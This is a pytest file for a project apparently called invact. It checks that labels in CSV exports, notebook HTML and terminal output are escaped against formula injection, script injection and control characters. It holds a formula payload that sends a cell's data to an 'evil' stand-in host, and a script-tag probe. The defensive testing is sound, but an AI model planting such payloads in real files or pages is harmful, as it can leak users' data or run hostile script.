"""Texts of users are shown as they are: in CSV files, in notebooks and in a terminal."""

import csv
import io
import re
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from made_fronts import a_front

import invact
from invact.cli.cost import cost_csv
from invact.cost.count import Cost, LayerCost
from invact.deploy.latency import Latencies, Latency
from invact.fronts.confirmation import Confirmation, ConfirmedPoint, Mean
from invact.reports.confirmation import write_confirmation
from invact.reports.front import write_front
from invact.text import csv_of, plain

FORMULA = '=HYPERLINK("http://evil"&A1)'
MARKUP = "<script>alert(1)</script>"


def named(label):
    front = a_front(1)
    first, *others = front.points
    odd = replace(first, label=label, values={"activation": label})
    return replace(front, name=label, points=(odd, *others), dominated=(), apart=())


def confirmed(label):
    mean, front = Mean(0.9, 0.8, 1.0), named(label)
    points = tuple(ConfirmedPoint(one, 2, mean, mean, mean, True, 1.0) for one in front.points)
    return Confirmation("tiny", "r", (7, 8), front, points, mean, 0, pd.DataFrame())


def cost(label):
    return Cost((LayerCost(label, label, (8, 8, 4), 2304, 40, 4, 0),))


def latencies(label):
    return Latencies((Latency(label, "onnx", 1.0, 2.0, 1.0, 1.0, 1.0, 30),), 1, 1, (), label, {"onnx": "1"})


def files(write, result, tmp_path):
    (path,) = write(result, tmp_path, ["csv"])
    return path.read_text()


@pytest.mark.parametrize(
    "make",
    [
        lambda folder: files(write_front, named(FORMULA), folder),
        lambda folder: files(write_confirmation, confirmed(FORMULA), folder),
        lambda folder: cost_csv({FORMULA: cost(FORMULA)}),
        lambda folder: csv_of(latencies(FORMULA).to_pandas()),
    ],
    ids=["front", "confirmation", "cost", "latency"],
)
def test_no_cell_of_a_csv_file_is_a_formula(make, tmp_path):
    cells = [cell for row in csv.reader(io.StringIO(make(tmp_path))) for cell in row]
    assert f"'{FORMULA}" in cells
    assert FORMULA not in cells


@pytest.mark.parametrize(
    ("pattern", "allowed"),
    [
        (r"\.to_csv\(", {"text.py"}),
        (r"\btyper\.echo\(|\bprint\(", {"cli/options.py", "cli/main.py", "process/streams.py"}),
    ],
)
def test_all_text_goes_through_one_function(pattern, allowed):
    """One that writes CSV, and one that prints."""
    root = Path(invact.__file__).parent
    users = {
        str(file.relative_to(root))
        for file in root.rglob("*.py")
        for line in file.read_text(encoding="utf-8").splitlines()
        if re.search(pattern, line) and not re.search(r">>>|\.\.\. |console\.print", line)
    }
    assert users <= allowed
    assert users


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_what_a_spreadsheet_reads_as_a_formula_gets_an_apostrophe(start):
    text = csv_of(pd.DataFrame({f"{start}a": [f"{start}x", f"a{start}x", None]}))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[0] for row in rows if row] == [f"'{start}a", f"'{start}x", f"a{start}x", ""][: len(rows)]


def test_no_text_starts_a_row_of_its_own():
    text = csv_of(pd.DataFrame({"a": ["x\r=1+1", "x\n=1+1", "x\x1b"]}))
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        *(["a"], ["x\\r=1+1"], ["x\n=1+1"], ["x\\x1b"])
    ]


@given(st.lists(st.none() | st.integers() | st.floats(allow_nan=False), min_size=1))
def test_numbers_stay_as_pandas_writes_them(values):
    for column in (pd.Series(values, dtype=object), [str(value) for value in values]):
        table = pd.DataFrame({"a": column})
        assert csv_of(table) == table.to_csv(index=False, lineterminator="\n")


RESULTS = [named(MARKUP), confirmed(MARKUP), cost(MARKUP), latencies(MARKUP)]


@pytest.mark.parametrize("result", RESULTS, ids=lambda result: type(result).__name__)
def test_a_notebook_shows_html_in_labels_as_text(result):
    page = result._repr_html_()
    assert "<script" not in page
    assert "&lt;script&gt;" in page
    assert page.count("<table") == 1
    assert len(repr(result)) < 250
    assert "\n" not in repr(result)


@given(st.text())
def test_plain_text_is_printable_or_as_it_was(text):
    shown = plain(text)
    shown.encode()
    assert "\x1b" not in shown
    assert len(shown.splitlines()) <= 1
    assert plain(shown) == shown
    assert plain(text, lines=True).count("\n") == text.count("\n")
    if text.isprintable():
        assert shown == text
